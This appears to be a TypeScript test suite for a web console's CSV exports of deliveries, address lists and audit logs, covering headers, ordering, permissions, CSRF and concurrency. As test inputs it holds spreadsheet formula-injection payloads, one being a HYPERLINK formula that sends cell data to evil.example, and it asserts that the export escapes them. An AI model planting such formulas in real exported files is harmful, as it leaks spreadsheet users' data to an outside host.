import { request, type IncomingMessage } from 'node:http';
import { expect } from 'chai';
import { itWithPython, runPython } from '../support/python.js';
import { waitFor } from '../support/waitFor.js';
import type { ConsoleBrowser } from './consoleBrowser.js';
import { ConsoleShop } from './consoleShop.js';
import { at } from './webFixture.js';

const PARSE = `
import csv, io, json, sys
json.dump(list(csv.DictReader(io.StringIO(json.load(sys.stdin).lstrip('\\ufeff'), newline=''), strict=True)), sys.stdout)`;
type Parsed = readonly Readonly<Record<string, string>>[];
const parse = (csv: string): Parsed => runPython(PARSE, csv) as Parsed;

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")\r\n,";\'';

describe('lists of the console as CSV files', () => {
  let shop: ConsoleShop;
  let browser: ConsoleBrowser;
  let order: string;
  let csrf: string;

  before(async () => {
    shop = await ConsoleShop.open();
    browser = await shop.signedIn();
    order = await shop.changeOrder(7, 'new', 'paid');
    csrf = await browser.csrf('/console/deliveries');
  });
  after(() => shop.close());

  const exported = async (path: string, from = browser, token = csrf): Promise<string> => {
    const response = await from.post(path, { csrf: token });
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(response.status, bytes.toString()).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).to.match(/^attachment; filename="[\w-]+\.csv"$/);
    expect(response.headers.get('cache-control')).to.equal('no-store');
    expect(bytes.subarray(0, 3).toString('hex'), 'the byte order mark').to.equal('efbbbf');
    return bytes.toString();
  };

  itWithPython('have the deliveries of a search, all of them in the order of the list', async () => {
    const evil = await shop.deliver(order, {
      state: 'failed',
      error_code: 'TEMPLATE_FAILED',
      error: `@SUM(1)${EVIL}`,
      subject: EVIL,
      recipients: ['+Ada <ada@example.com>', '"Lovelace, Ada" <b@example.com>'],
    });
    await shop.crowd(1_203);
    const all = parse(await exported('/console/deliveries/export'));
    const ids = all.map(({ deliveryid }) => Number(deliveryid));
    expect(ids).to.deep.equal(ids.toSorted((a, b) => b - a));
    expect(new Set(ids).size).to.equal(1_204);
    const [failed, ...others] = parse(await exported('/console/deliveries/export?status=failed'));
    expect(others).to.deep.equal([]);
    expect(failed).to.deep.include({
      deliveryid: evil,
      status: 'failed',
      email_type: 'confirmation',
      ruleid: shop.ruleid,
      target: 'orders',
      key: '{"order_id":7}',
      operation: 'update',
      intended_recipients: `'+Ada <ada@example.com>; "Lovelace, Ada" <b@example.com>`,
      subject: `'${EVIL}`,
      error_code: 'TEMPLATE_FAILED',
      error: `'@SUM(1)${EVIL}`,
    });
    expect(parse(await exported('/console/deliveries/export?subject=email+120'))).to.have.length(5);
    expect(parse(await exported('/console/deliveries/export?type=nothing'))).to.deep.equal([]);
  });

  itWithPython('have the addresses of a list, and the audit log', async () => {
    const addresses = Array.from({ length: 620 }, (_, i) => `a${String(i).padStart(4, '0')}@example.com`);
    for (let start = 0; start < addresses.length; start += 20) {
      const fields = addresses
        .slice(start, start + 20)
        .map(
          (address, i) =>
            `a${i}: create_email_suppression(input: { address: "${address}", reason: "=1" }) { address }`,
        );
      const made = await shop.fixture.control(shop.root, `mutation { ${fields.join(' ')} }`);
      expect(made.errors).to.equal(undefined);
    }
    await shop.fixture.control(
      shop.root,
      'mutation { create_email_unsubscribe(input: { address: "=evil@example.com", email_types: ["a", "b"] }) { address } }',
    );
    const suppressed = parse(await exported('/console/addresses/export?list=suppressed'));
    expect(suppressed.map(({ address }) => address)).to.deep.equal(addresses);
    expect(suppressed[0]).to.deep.include({ reason: "'=1", source: 'manual', deliveryid: '' });
    const found = parse(await exported('/console/addresses/export?list=suppressed&search=061'));
    expect(found.map(({ address }) => address)).to.deep.equal(
      addresses.filter((each) => each.includes('061')),
    );
    expect(parse(await exported('/console/addresses/export?list=unsubscribed'))).to.have.nested.property(
      '[0].email_types',
      'a; b',
    );

    const listed = await shop.fixture.control(
      shop.root,
      `{ audit_event(filter: "object = 'email_suppression'", ordering: ["time desc", "eventid"], limit: 10000) { eventid } }`,
    );
    const events = parse(await exported('/console/audit/export?object=email_suppression'));
    expect(events.map(({ eventid }) => eventid)).to.deep.equal(
      (at(listed, 'data.audit_event') as { eventid: string }[]).map(({ eventid }) => eventid),
    );
    expect(events).to.have.length(620);
    expect(JSON.parse(events[0]?.['changes'] ?? '')).to.deep.include({
      column: 'reason',
      before: null,
      after: '=1',
    });
  });

  it('are refused to those who may not see the list, to other sites, and to whoever has signed out', async () => {
    const clerk = await shop.signedIn('shop', 'clerk');
    const token = await clerk.csrf('/console/account');
    for (const path of ['/console/deliveries/export', '/console/addresses/export']) {
      const response = await clerk.post(path, { csrf: token });
      expect([response.status, response.headers.get('content-type')], path).to.deep.equal([
        403,
        'text/html; charset=utf-8',
      ]);
    }
    const foreign = await browser.post(
      '/console/deliveries/export',
      { csrf },
      { origin: 'https://evil.example' },
    );
    expect(foreign.status).to.equal(403);
    expect((await browser.post('/console/deliveries/export', {})).status).to.equal(403);
    expect((await browser.post('/console/deliveries/export?rule=x', { csrf })).status).to.equal(400);
    const viewer = await shop.signedIn('shop', 'viewer');
    const own = await viewer.csrf('/console/deliveries');
    expect(await exported('/console/deliveries/export', viewer, own)).to.include('deliveryid');
    // Of a viewer's own changes, of which there are none.
    expect((await exported('/console/audit/export', viewer, own)).split('\r\n')).to.have.length(2);
  });

  it('are made one at a time for a tenant, for a client that reads, and for as long as the session lasts', async () => {
    await shop.crowd(60_000);
    const another = await shop.signedIn();
    const theirs = await another.csrf('/console/deliveries');
    const slow = await begin(another, theirs);
    const second = browser.post('/console/addresses/export', { csrf });
    const third = await shop.signedIn();
    const ofThird = await third.csrf('/console/deliveries');
    expect((await third.post('/console/deliveries/export', { csrf: ofThird })).status).to.equal(503);
    const other = await shop.signedIn('other');
    expect(
      (await other.post('/console/deliveries/export', { csrf: await other.csrf('/console/deliveries') }))
        .status,
    ).to.equal(200);
    await another.post('/console/sign-out', { csrf: theirs });
    // Not the whole file: the connection breaks.
    expect(await bytesOf(slow)).to.equal('aborted');
    expect((await second).status).to.equal(200);

    const gone = await begin(browser, csrf);
    gone.destroy();
    await waitFor(
      'the place of a client that is gone',
      async () => (await browser.post('/console/addresses/export', { csrf })).status === 200,
    );
  });

  /** A file of which nothing is read yet. */
  const begin = (from: ConsoleBrowser, token: string): Promise<IncomingMessage> =>
    new Promise((resolve, reject) => {
      const sent = request(
        `${shop.fixture.url}/console/deliveries/export?within=all`,
        {
          method: 'POST',
          headers: {
            'content-type': 'application/x-www-form-urlencoded',
            cookie: [...from.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
            origin: shop.fixture.url,
          },
        },
        resolve,
      );
      sent.on('error', reject);
      sent.end(new URLSearchParams({ csrf: token }).toString());
    });
});

function bytesOf(response: IncomingMessage): Promise<number | 'aborted'> {
  return new Promise((resolve) => {
    let length = 0;
    response.on('data', (chunk: Buffer) => (length += chunk.length));
    response.on('end', () => resolve(length));
    response.on('error', () => resolve('aborted'));
  });
}
